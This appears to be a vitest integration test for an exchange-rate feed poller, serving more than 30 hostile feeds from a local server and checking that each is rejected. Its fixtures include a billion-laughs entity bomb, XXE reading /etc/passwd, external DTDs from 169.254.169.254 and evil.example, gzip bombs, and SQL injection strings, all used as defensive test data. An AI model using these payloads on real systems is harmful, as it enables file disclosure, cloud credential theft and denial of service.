import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer, Server, ServerResponse } from 'node:http';
import { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { DataSource } from 'typeorm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FeedErrorCode } from '@app/domain';
import type { SafeHttpClient } from '@app/http-client';
import type { FeedPollService } from '@app/ingestion';
import { createExchangerWithFeed, pollServiceFor } from '../support/ingestion';
import { migratedDatabase, TestDatabase } from '../support/services';

/**
 * Hostile feeds through the whole poll (HTTP fetch, decode, read, normalize, write) on the real
 * PostgreSQL. Every case starts from a good snapshot; a case that must fail gives a stored error run
 * that says what was wrong, and leaves the snapshot exactly as it was. The README's Reliability table
 * lists these cases.
 */
const fixture = (name: string) => readFileSync(join(__dirname, '../fixtures/feeds', name));
const xmlItem = (from: string, to: string, out: string) =>
  `<item><from>${from}</from><to>${to}</to><in>1</in><out>${out}</out><amount>100</amount></item>`;
const GOOD = `<rates>${xmlItem('BTC', 'ETH', '20.5')}${xmlItem('ETH', 'BTC', '0.048')}${xmlItem('USDTTRC20', 'BTC', '0.0000105')}</rates>`;

interface Answer {
  body: Buffer | string | (() => Buffer | string);
  headers?: Record<string, string>;
  status?: number;
  /** Streams `chunks` pieces of `body` (for bodies too large to build). */
  chunks?: number;
}

interface HostileCase {
  name: string;
  answer: Answer;
  /** The error the run must record; or `accepted` codes (the case is read, the hostile part refused). */
  expect: { error: FeedErrorCode; message?: RegExp } | { accepted: string[]; rejected?: RegExp };
}

const repeat = (text: string, count: number) => text.repeat(count);

export const HOSTILE_FEEDS: HostileCase[] = [
  {
    name: 'billion laughs (nested entities in a DOCTYPE)',
    answer: {
      body: '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><rates><item><from>&lol2;</from></item></rates>',
    },
    expect: { error: 'xml_doctype' },
  },
  {
    name: 'external entity reading a local file (XXE)',
    answer: {
      body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rates><item><from>&x;</from></item></rates>',
    },
    expect: { error: 'xml_doctype' },
  },
  {
    name: 'external DTD fetched from the network',
    answer: { body: '<?xml version="1.0"?><!DOCTYPE rates SYSTEM "http://169.254.169.254/evil.dtd"><rates/>' },
    expect: { error: 'xml_doctype' },
  },
  {
    name: 'parameter entities',
    answer: { body: '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><rates/>' },
    expect: { error: 'xml_doctype' },
  },
  {
    name: '100 MB body (streamed, no Content-Length)',
    answer: { body: repeat(xmlItem('BTC', 'ETH', '1'), 10_000), chunks: 130 },
    expect: { error: 'too_large' },
  },
  {
    name: 'gzip bomb (64 MB of zeros in 64 KB, Content-Encoding: gzip)',
    answer: { body: () => gzipSync(Buffer.alloc(64 * 1024 * 1024)), headers: { 'content-encoding': 'gzip' } },
    expect: { error: 'too_large' },
  },
  {
    name: 'gzip bomb served as a .gz file without Content-Encoding',
    answer: { body: () => gzipSync(Buffer.alloc(64 * 1024 * 1024)), headers: { 'content-type': 'application/gzip' } },
    expect: { error: 'too_large' },
  },
  {
    name: 'a gzip header over garbage',
    answer: {
      body: Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), randomBytes(4096)]),
      headers: { 'content-encoding': 'gzip' },
    },
    expect: { error: 'decompress_failed' },
  },
  {
    name: 'deep nesting, 200,000 open elements never closed',
    answer: { body: `<rates>${repeat('<a>', 200_000)}` },
    expect: { error: 'xml_malformed' },
  },
  {
    name: 'deep nesting in JSON, 200,000 open arrays',
    answer: { body: repeat('[', 200_000), headers: { 'content-type': 'application/json' } },
    expect: { error: 'json_malformed' },
  },
  {
    name: 'a 1-line 50 MB file',
    answer: { body: repeat(xmlItem('BTC', 'ETH', '1'), 5000), chunks: 70 },
    expect: { error: 'too_large' },
  },
  {
    name: 'a 1-line 15 MB XML with 150,000 items (under the size cap)',
    answer: { body: () => `<rates>${repeat(xmlItem('BTC', 'ETH', '1'), 150_000)}</rates>` },
    expect: { error: 'too_many_items' },
  },
  {
    name: 'binary garbage',
    answer: { body: () => randomBytes(65_536), headers: { 'content-type': 'application/octet-stream' } },
    expect: { error: 'not_a_feed' },
  },
  {
    name: 'NUL bytes inside the XML',
    answer: { body: `<rates><item><from>BT\u0000C</from><to>ETH</to><in>1</in><out>\u0000</out></item></rates>` },
    expect: { error: 'not_a_feed' },
  },
  { name: 'an empty body', answer: { body: '' }, expect: { error: 'empty_body' } },
  { name: 'whitespace only', answer: { body: '   \r\n\t  ' }, expect: { error: 'empty_body' } },
  {
    name: 'an HTML page with status 200 (anti-bot wall)',
    answer: {
      body: '<!DOCTYPE html><html><head><title>Just a moment...</title></head><body>Checking your browser</body></html>',
      headers: { 'content-type': 'text/html' },
    },
    expect: { error: 'html_page' },
  },
  {
    name: 'a PHP fatal error instead of the feed',
    answer: {
      body: '<br />\n<b>Fatal error</b>:  Uncaught PDOException: SQLSTATE[HY000] in /var/www/export.php on line 12<br />',
    },
    expect: { error: 'php_error' },
  },
  {
    name: 'an HTTP 500',
    answer: { body: 'Internal Server Error', status: 500 },
    expect: { error: 'http_error', message: /500/ },
  },
  {
    name: 'the truncated fixture (cut mid-item)',
    answer: { body: () => fixture('truncated.xml') },
    expect: { error: 'xml_malformed' },
  },
  {
    name: 'the large fixture cut at two thirds',
    answer: { body: () => fixture('large-6000.xml').subarray(0, Math.floor(fixture('large-6000.xml').length * 0.66)) },
    expect: { error: 'xml_malformed' },
  },
  {
    name: 'JSON cut in the middle',
    answer: { body: () => fixture('standard.json').subarray(0, 200), headers: { 'content-type': 'application/json' } },
    expect: { error: 'json_malformed' },
  },
  {
    name: 'a million-key JSON object',
    answer: {
      body: () => `{"rates":{${Array.from({ length: 1_000_000 }, (_, i) => `"k${i}":1`).join(',')}}}`,
      headers: { 'content-type': 'application/json' },
    },
    expect: { error: 'json_unexpected_shape' },
  },
  {
    name: 'a JSON array of 100,001 items',
    answer: {
      body: () =>
        `{"rates":[${repeat('{"from":"BTC","to":"ETH","in":1,"out":2},', 100_000)}{"from":"BTC","to":"ETH","in":1,"out":2}]}`,
      headers: { 'content-type': 'application/json' },
    },
    expect: { error: 'too_many_items' },
  },
  {
    name: 'JSON of the wrong shape (rates is a string)',
    answer: { body: '{"rates":"none"}', headers: { 'content-type': 'application/json' } },
    expect: { error: 'json_unexpected_shape' },
  },
  {
    name: 'absurd numbers only (1e400, NaN, Infinity, negative, zero, 2,000 digits)',
    answer: {
      body: `<rates>${['1e400', 'NaN', 'Infinity', '-5', '0', '9'.repeat(2000), '0x1F', '1..2'].map((out) => xmlItem('BTC', 'ETH', out)).join('')}</rates>`,
    },
    expect: { error: 'no_valid_items' },
  },
  {
    name: 'Cyrillic look-alike codes only (ВТС, ЕТН)',
    answer: { body: `<rates>${xmlItem('ВТС', 'ЕТН', '20')}</rates>` },
    expect: { error: 'no_valid_items', message: /ВТС/ },
  },
  {
    name: 'SQL in the codes',
    answer: {
      body: `<rates>${xmlItem("BTC'; DROP TABLE offers;--", 'ETH', '20')}${xmlItem('BTC', 'ETH" OR 1=1', '20')}</rates>`,
    },
    expect: { error: 'no_valid_items' },
  },
  {
    name: 'zero-width and bidi characters inside codes, with a 1 MB field',
    answer: {
      body: `<rates>${xmlItem('B\u200BT\u200DC', '\u202EETH', '20.5')}${xmlItem('X'.repeat(1024 * 1024), 'BTC', '1')}</rates>`,
    },
    expect: { accepted: ['BTC>ETH'], rejected: /unknown currency code/ },
  },
  {
    name: 'the same direction 10,000 times',
    answer: { body: () => `<rates>${repeat(xmlItem('BTC', 'ETH', '20.5'), 10_000)}</rates>` },
    expect: { accepted: ['BTC>ETH'] },
  },
  {
    name: 'an error answer in place of the feed',
    answer: { body: '<error>Access denied for your IP</error>' },
    expect: { error: 'feed_error_answer' },
  },
  {
    name: 'UTF-16 without a byte-order mark',
    answer: { body: Buffer.from(GOOD, 'utf16le') },
    expect: { error: 'not_a_feed' },
  },
  // One bad value rejects its item, never the feed (DESIGN.md §3): the good items around it are written.
  ...(
    [
      ['one 20,000-digit value', `<in>1</in><out>0.${repeat('9', 20_000)}</out>`, /more than 40 significant digits/],
      [
        'one 20,000-digit limit',
        `<in>1</in><out>1</out><maxamount>1.${repeat('1', 20_000)}</maxamount>`,
        /max amount .* more than 40 significant digits/,
      ],
      [
        'in = 1e-400 (a 401-digit rate)',
        '<in>1e-400</in><out>1</out>',
        /in "1e-400" is out of range: smaller than 1e-30/,
      ],
      ['a rate of 10^25', '<in>1</in><out>1e25</out>', /the rate .* larger than 1e18/],
      ['the same field twice in one item', '<from>XMR</from><in>1</in><out>1</out>', /the field from appears twice/],
      [
        'an item nested inside an item',
        '<in>1</in><out>1</out><item><from>XMR</from></item>',
        /an <item> inside an <item>/,
      ],
      ['markup inside a value', '<in>1</in><out>0.<b>5</b></out>', /markup <b> inside <out>/],
      [
        'one item naming 150,000 cities',
        `<in>1</in><out>1</out><city>${Array.from({ length: 150_000 }, (_, i) => `C${i}`).join(',')}</city>`,
        /more than 500 cities in one item/,
      ],
    ] as const
  ).map(([name, inside, rejected]): HostileCase => ({
    name: `${name} among good items`,
    answer: {
      body: `<rates>${xmlItem('BTC', 'ETH', '20.5')}<item><from>LTC</from><to>BTC</to>${inside}</item>${xmlItem('ETH', 'BTC', '0.048')}</rates>`,
    },
    expect: { accepted: ['BTC>ETH', 'ETH>BTC'], rejected },
  })),
  {
    name: 'a NUL byte inside param (past the first kilobyte)',
    answer: {
      body: `<rates>${repeat(xmlItem('BTC', 'ETH', '20.5'), 20)}<item><from>ETH</from><to>BTC</to><in>1</in><out>0.048</out><param>manual,\u0000verifying</param></item></rates>`,
    },
    expect: { accepted: ['BTC>ETH', 'ETH>BTC'] },
  },
  {
    name: 'offers past the cap after city fan-out (250 items × 500 cities)',
    answer: {
      body: () =>
        `<rates>${Array.from({ length: 250 }, (_, i) => `<item><from>BTC</from><to>CASHUSD</to><in>1</in><out>${i + 1}</out><city>${Array.from({ length: 500 }, (_, c) => `X${i}C${c}`).join(',')}</city></item>`).join('')}</rates>`,
    },
    expect: { error: 'too_many_items', message: /offers \(cities and duplicates counted\)/ },
  },
  {
    name: 'HTTP 206 Partial Content (a part of the feed)',
    answer: { body: GOOD.slice(0, 120), status: 206 },
    expect: { error: 'http_error', message: /Partial Content/ },
  },
];

/** A server that answers a path with the answer the current case set. */
class HostileServer {
  private server: Server | null = null;
  answer: Answer = { body: GOOD };
  base = '';

  async start(): Promise<void> {
    this.server = createServer((_req, res) => this.send(res));
    await new Promise<void>((resolve) => this.server!.listen(0, '127.0.0.1', resolve));
    this.base = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  async stop(): Promise<void> {
    this.server?.closeAllConnections();
    await new Promise((resolve) => this.server?.close(resolve));
  }

  private send(res: ServerResponse): void {
    const { answer } = this;
    const body = typeof answer.body === 'function' ? answer.body() : answer.body;
    res.writeHead(answer.status ?? 200, { 'content-type': 'text/xml; charset=utf-8', ...answer.headers });
    if (!answer.chunks) return void res.end(body);
    let sent = 0;
    const next = (): void => {
      while (sent < answer.chunks!) {
        sent++;
        if (!res.write(body)) return void res.once('drain', next);
      }
      res.end();
    };
    res.on('error', () => undefined);
    next();
  }
}

describe('hostile feeds through the whole poll', () => {
  let db: TestDatabase;
  let dataSource: DataSource;
  let poller: FeedPollService;
  let fetcher: SafeHttpClient;
  const server = new HostileServer();
  let feedId: number;

  const snapshot = async () =>
    (
      await dataSource.query<Array<{ n: string; sum: string | null }>>(
        `SELECT count(*) AS n, md5(string_agg(from_code || '>' || to_code || '=' || rate::text, ',' ORDER BY from_code, to_code)) AS sum FROM offers WHERE feed_id = $1`,
        [feedId],
      )
    )[0]!;

  beforeAll(async () => {
    ({ db, dataSource } = await migratedDatabase(4));
    ({ poller, fetcher } = pollServiceFor(dataSource));
    await server.start();
    ({ feedId } = await createExchangerWithFeed(dataSource, 'hostile', `${server.base}/feed`));
  });

  afterAll(async () => {
    await server.stop();
    await fetcher.close();
    await dataSource.destroy();
    await db.drop();
  });

  it('has at least 30 hostile feed cases (the README lists them with the API and fetch cases)', () => {
    expect(HOSTILE_FEEDS.length).toBeGreaterThanOrEqual(30);
  });

  let round = 0;
  it.each(HOSTILE_FEEDS)('$name', async ({ answer, expect: expected }) => {
    // A good snapshot first, with rates that differ from the previous case's, so "unchanged" means something
    // (a counter, not the clock: two cases a multiple of a second apart got the same body and "unchanged").
    server.answer = { body: GOOD.replace('20.5', `20.${String(++round).padStart(3, '0')}5`) };
    const good = await poller.poll(feedId, 'manual');
    expect(good.status).toBe('ok');
    const before = await snapshot();
    expect(Number(before.n)).toBe(3);

    server.answer = answer;
    const outcome = await poller.poll(feedId, 'manual');
    if (outcome.status === 'skipped') throw new Error(`skipped: ${outcome.reason}`);
    if ('error' in expected) {
      expect(outcome.status).toBe('error');
      expect(outcome.run.error?.code).toBe(expected.error);
      expect(outcome.run.error?.message.length).toBeGreaterThan(10);
      if (expected.message) expect(outcome.run.error?.message).toMatch(expected.message);
      expect(await snapshot()).toEqual(before);
      const [stored] = await dataSource.query<Array<{ error_code: string; error_message: string }>>(
        `SELECT error_code, error_message FROM feed_runs WHERE feed_id = $1 ORDER BY id DESC LIMIT 1`,
        [feedId],
      );
      expect(stored).toEqual({ error_code: expected.error, error_message: outcome.run.error?.message });
    } else {
      expect(outcome.status).toBe('ok');
      const rows = await dataSource.query<Array<{ d: string }>>(
        `SELECT from_code || '>' || to_code AS d FROM offers WHERE feed_id = $1 ORDER BY 1`,
        [feedId],
      );
      expect(rows.map((r) => r.d)).toEqual(expected.accepted);
      if (expected.rejected) expect(outcome.run.rejects.map((r) => r.reason).join('\n')).toMatch(expected.rejected);
      // Whatever the feed sent, a stored reject stays small.
      const [size] = await dataSource.query<Array<{ bytes: number }>>(
        `SELECT octet_length(rejects::text) AS bytes FROM feed_runs WHERE feed_id = $1 ORDER BY id DESC LIMIT 1`,
        [feedId],
      );
      expect(size!.bytes).toBeLessThan(64 * 1024);
    }
  });
});
